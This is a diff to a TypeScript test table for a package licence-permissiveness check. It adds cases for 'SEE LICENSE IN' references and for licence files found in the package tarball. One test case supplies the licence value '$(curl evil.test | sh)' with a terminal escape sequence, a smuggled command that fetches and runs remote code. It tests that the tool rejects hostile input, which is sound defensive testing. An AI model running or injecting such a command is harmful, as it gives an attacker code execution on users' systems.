@@ -1,10 +1,12 @@
 import check from '../../src/checks/license-permissiveness.js';
-import { evidence } from '../support/evidence-builder.js';
+import { evidence, unavailable } from '../support/evidence-builder.js';
 import type { PypiLicense } from '../../src/evidence/schema.js';
 import { pypiEvidence } from '../support/pypi-evidence.js';
 import { checkTable } from './check-table.js';
 
 const declared = (license: string | null) => evidence({ registry: { license } });
+const withFiles = (license: string | null, licenseFiles: { path: string; spdx: string | null; others?: string[] }[]) =>
+  evidence({ registry: { license }, tarball: { licenseFiles } });
 const NO_LICENSE: PypiLicense = { expression: null, classifiers: [], text: null, spdx: null, source: null, files: null };
 const pypiLicensed = (license: Partial<PypiLicense>) => pypiEvidence({ pypi: { license: { ...NO_LICENSE, ...license } } });
 
@@ -43,8 +45,48 @@ checkTable(check, [
     data: { license: 'Apache-2.0', declared: 'Apache 2.0' },
   },
   { name: 'UNLICENSED', evidence: declared('UNLICENSED'), score: 25, messageId: 'unlicensed' },
-  { name: 'SEE LICENSE IN', evidence: declared('SEE LICENSE IN LICENSE.txt'), score: 25, messageId: 'custom', data: { file: 'LICENSE.txt' } },
-  { name: 'no licence', evidence: declared(null), score: 25, messageId: 'none', message: ['all rights reserved by default'] },
+  {
+    name: 'SEE LICENSE IN a file whose text is not recognised',
+    evidence: withFiles('SEE LICENSE IN LICENSE.txt', [{ path: 'LICENSE.txt', spdx: null }]),
+    score: 25,
+    messageId: 'custom',
+    data: { file: 'LICENSE.txt' },
+  },
+  {
+    name: 'SEE LICENSE IN a file recognised as MIT: the file grants MIT',
+    evidence: withFiles('SEE LICENSE IN ./license.txt', [{ path: 'LICENSE.md', spdx: 'GPL-3.0-only' }, { path: 'LICENSE.txt', spdx: 'MIT' }]),
+    score: 100,
+    messageId: 'referenced-file',
+    data: { class: 'permissive', file: 'LICENSE.txt', found: ['MIT'] },
+  },
+  {
+    name: 'SEE LICENSE IN a file the package does not ship',
+    evidence: withFiles('SEE LICENSE IN EULA.md', [{ path: 'LICENSE', spdx: 'MIT' }]),
+    score: 25,
+    messageId: 'custom',
+  },
+  { name: 'no licence, no licence file', evidence: withFiles(null, []), score: 25, messageId: 'none', data: { class: 'restricted' } },
+  { name: 'no licence, file text not recognised', evidence: withFiles(null, [{ path: 'LICENSE', spdx: null }]), score: 25, messageId: 'none' },
+  {
+    name: 'no licence declared, the shipped LICENSE is MIT',
+    evidence: withFiles(null, [{ path: 'LICENSE', spdx: 'MIT' }]),
+    score: 100,
+    messageId: 'from-file',
+    data: { class: 'permissive', file: 'LICENSE', found: ['MIT'] },
+  },
+  {
+    name: 'no licence declared, a file holding MIT and GPL texts: the worst applies',
+    evidence: withFiles(null, [{ path: 'COPYING', spdx: 'MIT', others: ['GPL-2.0-only'] }]),
+    score: 60,
+    messageId: 'from-file',
+    data: { class: 'strong-copyleft', found: ['MIT', 'GPL-2.0-only'] },
+  },
+  {
+    name: 'no licence declared, tarball unread: nothing to go on',
+    evidence: evidence({ registry: { license: null }, tarball: unavailable('the tarball timed out') }),
+    score: 25,
+    messageId: 'none',
+  },
   { name: 'unparseable', evidence: declared('Public Domain'), score: 25, messageId: 'unparseable' },
   { name: 'hostile', evidence: declared('$(curl evil.test | sh) \u001b[2J'), score: 25, messageId: 'unparseable' },
   // PyPI: the expression, else the mapped id, else the classifiers' class.
